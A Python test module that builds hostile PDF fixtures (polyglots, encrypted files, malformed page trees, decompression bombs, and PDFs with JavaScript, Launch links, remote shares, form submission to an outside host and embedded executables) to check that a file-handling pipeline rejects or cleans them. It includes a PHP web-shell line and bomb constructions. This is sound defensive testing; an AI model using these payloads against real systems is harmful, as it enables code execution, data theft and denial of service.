"""Hostile PDF files."""

import struct
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, Pdf, Stream

from tests.papers.hostile import PDF, Hostile
from tests.papers.making import (
    annotation,
    archive,
    file_spec,
    pages,
    pdf_with,
    raw_pdf,
    raw_stream,
    script,
    simple_pdf,
    zeros,
)


def _two(name: str, how: str, content: bytes) -> Hostile:
    return Hostile(name, how, PDF, lambda: content, "FILE_TWO_KINDS")


def _headed(head: bytes) -> bytes:
    return b"%PDF-1.4\n" + head + b"\n" + simple_pdf()


def _tar() -> bytes:
    whole = bytearray(_headed(b"%" + b" " * 400))
    whole[257:262] = b"ustar"
    return bytes(whole)


TWO_KINDS = (
    _two("PDF with a ZIP", "a ZIP behind the end", simple_pdf() + archive()),
    _two("PDF with a page", "HTML with a script behind the end", simple_pdf() + b"<html><script>alert(1)</script>"),
    _two("PDF with a program", "a Windows program behind the end", simple_pdf() + b"MZ\x90\0" + b"\0" * 100),
    _two("PDF that is a page", "HTML with a script in its first lines", _headed(b"%<html><script>alert(1)</script>")),
    _two("PDF that is a PHP script", "PHP in its first lines", _headed(b"%<?php system($_GET[0]); ?>")),
    _two("PDF that is an archive", "a tar header in its first lines", _tar()),
    _two("PDF with a PDF", "a second PDF behind the first", simple_pdf() + b"\n" * 2000 + b"%PDF-1.4\n" + b"junk"),
)
CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _very_long() -> bytes:
    tree = b"<< /Type /Pages /Kids [%s] /Count 20000 >>" % (b"3 0 R " * 20_000)
    return raw_pdf(CATALOG, tree, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>")


LOCKED_OR_LONG = (
    Hostile(
        "locked PDF",
        "a password to open it",
        PDF,
        lambda: pdf_with(lambda _: None, encryption=Encryption(user="shili", owner="shili")),
        "PDF_ENCRYPTED",
    ),
    Hostile(
        "PDF locked against changes",
        "a password to change it, none to open it",
        PDF,
        lambda: pdf_with(lambda _: None, encryption=Encryption(user="", owner="shili")),
        "PDF_ENCRYPTED",
    ),
    Hostile("long PDF", "61 pages", PDF, lambda: pages(61), "PDF_TOO_MANY_PAGES"),
    Hostile("very long PDF", "the same page 20,000 times", PDF, _very_long, "PDF_TOO_MANY_PAGES"),
)


def _unreadable(name: str, how: str, content: bytes | Callable[[], bytes]) -> Hostile:
    return Hostile(name, how, PDF, content if callable(content) else lambda: content, "FILE_UNREADABLE")


DAMAGED = (
    _unreadable("PDF header", "its first line and nothing else", b"%PDF-1.7\n"),
    _unreadable("PDF of noise", "the right beginning, then noise", b"%PDF-1.7\n" + bytes(range(256)) * 40),
    _unreadable("PDF without pages", "an empty tree", raw_pdf(CATALOG, b"<< /Type /Pages /Kids [] /Count 0 >>")),
    _unreadable(
        "PDF in a circle",
        "a tree of pages that holds itself",
        raw_pdf(CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    ),
    _unreadable(
        "PDF whose page is its own parent",
        "a circle upwards",
        raw_pdf(CATALOG, ONE_PAGE, b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 300 300] >>"),
    ),
    _unreadable(
        "PDF as thin as a thread",
        "a page of 1,000,000 × 10 points",
        raw_pdf(CATALOG, ONE_PAGE, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000 10] >>"),
    ),
    _unreadable(
        "deep PDF",
        "200,000 brackets inside one another",
        raw_pdf(CATALOG, ONE_PAGE, b"<< /Type /Page /Parent 2 0 R /X " + b"[" * 200_000 + b"]" * 200_000 + b" >>"),
    ),
)
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R /Resources << %s >> >>"


def _expands(name: str, how: str, content: Callable[[], bytes], answer: str = "FILE_EXPANDS") -> Hostile:
    return Hostile(name, how, PDF, content, answer)


def endless() -> bytes:
    """Drawings that draw ten others each, eight times over."""
    forms = []
    for depth in range(8):
        below = b"" if depth == 7 else b"/Resources << /XObject << /X %d 0 R >> >>" % (6 + depth)
        drawing = b"0 0 m 300 300 l S " * 10 if depth == 7 else b"/X Do " * 10
        forms.append(raw_stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 300] " + below, drawing))
    return raw_pdf(CATALOG, ONE_PAGE, PAGE % b"/XObject << /X 5 0 R >>", raw_stream(b"", b"/X Do " * 10), *forms)


def _image(width: int, height: int) -> bytes:
    entries = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode"
    return raw_pdf(
        CATALOG,
        ONE_PAGE,
        PAGE % b"/XObject << /X 5 0 R >>",
        raw_stream(b"", b"300 0 0 300 0 0 cm /X Do"),
        raw_stream(entries % (width, height), zeros(1 << 20)),
    )


def _object_stream() -> bytes:
    """The catalogue, the tree and the page lie in a stream, before gigabytes of nothing."""
    inside = (CATALOG, ONE_PAGE, PAGE % b"")
    places = [sum(len(each) + 1 for each in inside[:number]) for number in range(3)]
    head = b" ".join(b"%d %d" % (number, place) for number, place in enumerate(places, start=1)) + b" "
    entries = b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(head)
    packed = (
        b"%PDF-1.7\n4 0 obj\n" + raw_stream(entries, zeros(1536 << 20, head + b" ".join(inside) + b" ")) + b"\nendobj\n"
    )
    rows = [(0, 0, 0), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, 9, 0), (1, len(packed), 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    xref = raw_stream(b"/Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R", table)
    return packed + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, len(packed))


BOMBS = (
    _expands(
        "PDF bomb",
        "a drawing that unpacks to 256 MiB",
        lambda: raw_pdf(CATALOG, ONE_PAGE, PAGE % b"", raw_stream(b"/Filter /FlateDecode", zeros(256 << 20))),
    ),
    _expands(
        "PDF bomb in a chain",
        "a drawing packed five times",
        lambda: raw_pdf(
            CATALOG, ONE_PAGE, PAGE % b"", raw_stream(b"/Filter [" + b"/FlateDecode " * 5 + b"]", zeros(1 << 20))
        ),
    ),
    _expands(
        "PDF of many bombs",
        "ten pictures of 100 MiB each",
        lambda: raw_pdf(CATALOG, ONE_PAGE, PAGE % b"", *([raw_stream(b"/Filter /FlateDecode", zeros(100 << 20))] * 10)),
    ),
    _expands("PDF with a huge picture", "50,000 × 50,000 dots", lambda: _image(50_000, 50_000), "IMAGE_TOO_LARGE"),
    _unreadable("PDF that never ends", "a hundred million lines, drawn by drawings in drawings", endless),
    _unreadable("PDF with a packed table", "its objects unpack to 1.5 GiB", _object_stream),
)


def _open_action(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script(pdf)


def _named_script(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script(pdf)])))


def _page_action(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=script(pdf))
    pdf.Root.AA = Dictionary(WC=script(pdf))


def _link(pdf: Pdf, **action: object) -> None:
    annotation(pdf, "Link", A=Dictionary(Type=Name.Action, **action))


def _carried(pdf: Pdf) -> None:
    spec = file_spec(pdf, "HOSTILE.exe", b"MZ\x90\0 HOSTILE")
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([pikepdf.String("a"), spec])))
    pdf.Root.AF = Array([spec])
    annotation(pdf, "FileAttachment", FS=spec)


def _xfa(pdf: Pdf) -> None:
    form = Stream(pdf, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>HOSTILE</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_indirect(form))


def _submit(pdf: Pdf) -> None:
    button = annotation(
        pdf, "Widget", FT=Name.Btn, T="send", A=Dictionary(S=Name.SubmitForm, F="http://192.0.2.1/HOSTILE", Flags=4)
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))


def _rich_media(pdf: Pdf) -> None:
    spec = file_spec(pdf, "HOSTILE.swf", b"FWS HOSTILE")
    content = Dictionary(Assets=Dictionary(Names=Array([pikepdf.String("HOSTILE.swf"), spec])))
    annotation(pdf, "RichMedia", RichMediaContent=content)


def _from_elsewhere(pdf: Pdf) -> None:
    outside = Stream(pdf, b"")
    outside.F = "//192.0.2.1/share/HOSTILE"
    pdf.pages[0].Resources.XObject = Dictionary(X=pdf.make_indirect(outside))


def _above_the_page(pdf: Pdf) -> None:
    pdf.Root.Pages.HOSTILE = script(pdf)


def _about(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = "HOSTILE"
    with pdf.open_metadata() as metadata:
        metadata["dc:title"] = "HOSTILE"
    pdf.Root.Outlines = Dictionary(Title="HOSTILE", A=script(pdf))


def _hidden_in_a_font(pdf: Pdf) -> None:
    pdf.pages[0].Resources.Font["/F1"]["/A"] = script(pdf)


def _cleaned(name: str, how: str, change: Callable[[Pdf], None]) -> Hostile:
    return Hostile(name, how, PDF, lambda: pdf_with(change), gone=(b"HOSTILE", b"JavaScript"))


CLEANED = (
    _cleaned("PDF with a script", "the script that runs when it is opened", _open_action),
    _cleaned("PDF with a named script", "the script in its table of names", _named_script),
    _cleaned("PDF with page scripts", "scripts that run when it is read or closed", _page_action),
    _cleaned("PDF that starts a program", "the link (Launch)", lambda pdf: _link(pdf, S=Name.Launch, F="HOSTILE.exe")),
    _cleaned(
        "PDF that opens a share", "the link (GoToR)", lambda pdf: _link(pdf, S=Name.GoToR, F="//192.0.2.1/HOSTILE")
    ),
    _cleaned("PDF with a link to a file", "the link (URI)", lambda pdf: _link(pdf, S=Name.URI, URI="file:///HOSTILE")),
    _cleaned("PDF that imports", "the link (ImportData)", lambda pdf: _link(pdf, S=Name.ImportData, F="HOSTILE.fdf")),
    _cleaned("PDF that sends", "the button that sends its form away", _submit),
    _cleaned("PDF with a program inside", "the file that it carries along", _carried),
    _cleaned("PDF with an XFA form", "the form with its script", _xfa),
    _cleaned("PDF with a film", "the Flash film", _rich_media),
    _cleaned("PDF that reads elsewhere", "the picture whose bytes lie on another machine", _from_elsewhere),
    _cleaned("PDF with a script above", "what the tree of pages holds beside its pages", _above_the_page),
    _cleaned("PDF that says who wrote it", "author, title, outline", _about),
    _cleaned("PDF with a hidden script", "the script in a font", _hidden_in_a_font),
)
